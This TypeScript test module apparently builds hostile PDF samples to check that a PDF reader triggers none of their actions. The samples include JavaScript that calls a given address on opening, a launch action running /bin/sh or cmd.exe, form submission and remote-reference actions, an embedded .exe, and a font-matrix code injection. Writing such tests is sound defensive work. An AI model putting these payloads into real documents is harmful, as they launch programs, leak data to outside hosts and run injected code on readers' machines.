import { type HostileCase, reads } from "./case.ts";
import { letterContents, letterPdf, type Objects } from "./pdf-writer.ts";

/** PDFs that would do something. Each calls the address it is given; nobody may ever come there. */
export function pdfActive(address: string): readonly HostileCase[] {
  const script = `app.launchURL('${address}');this.submitForm('${address}');globalThis.folioRan=1;`;
  const opening =
    (action: string, more: Objects = {}) =>
    () =>
      letterPdf({ 1: `<</Type/Catalog/Pages 2 0 R/OpenAction${action}>>`, ...more });
  const onPage =
    (more: string, objects: Objects = {}) =>
    () =>
      letterPdf({
        3: `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>${more}>>`,
        ...objects,
      });
  const drawn = { 4: { dict: "", stream: letterContents("/X Do") } };
  return [
    reads("a script run on opening", opening(`<</S/JavaScript/JS(${script})>>`)),
    reads("a script in a stream", opening("<</S/JavaScript/JS 6 0 R>>", { 6: { dict: "", stream: script } })),
    reads("a program launched on opening", opening("<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>")),
    reads("an address called on opening", opening(`<</S/URI/URI(${address})>>`)),
    reads("another file gone to on opening", opening(`<</S/GoToR/F<</FS/URL/F(${address})>>/D[0/Fit]>>`)),
    reads("a form sent on opening", opening(`<</S/SubmitForm/F<</FS/URL/F(${address})>>>>`)),
    reads("actions that follow themselves", opening("6 0 R", { 6: `<</S/JavaScript/JS(${script})/Next 6 0 R>>` })),
    reads("a script run on each page", onPage(`/AA<</O<</S/JavaScript/JS(${script})>>>>`)),
    reads(
      "a link over the whole page",
      onPage(`/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${address})>>>>]`),
    ),
    reads("a field with a script of its own", () =>
      letterPdf({
        1: `<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]/XFA(<xdp><script>${script}</script></xdp>)>>>>`,
        6: `<</FT/Tx/T(a)/Type/Annot/Subtype/Widget/Rect[0 0 9 9]/AA<</C<</S/JavaScript/JS(${script})>>>>>>`,
      }),
    ),
    reads("an embedded program", () =>
      letterPdf({
        1: "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>>>",
        6: "<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>",
        7: { dict: "/Type/EmbeddedFile", stream: "MZ\x90\0" },
      }),
    ),
    reads(
      "a picture kept elsewhere",
      onPage("", {
        ...drawn,
        6: {
          dict: `/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${address})>>`,
          stream: "",
        },
      }),
    ),
    reads(
      "a form kept elsewhere",
      onPage("", {
        ...drawn,
        6: { dict: `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</FS/URL/F(${address})>>/Page 0>>`, stream: "" },
      }),
    ),
    reads("code where a typeface has numbers", () =>
      letterPdf({
        5: "<</Type/Font/Subtype/Type1/BaseFont/A/FontDescriptor 6 0 R/FontMatrix[1 0 0 1 0 (0\\);globalThis.folioRan=1//)]>>",
        6: "<</Type/FontDescriptor/FontName/A/Flags 4/FontFile3 7 0 R>>",
        7: { dict: "/Subtype/Type1C", stream: "\x01\0\x04\x01" },
      }),
    ),
    reads("a reference to the network in its letters' meanings", () =>
      letterPdf({ 5: `<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/${address.replaceAll("/", "#2F")}>>` }),
    ),
  ];
}
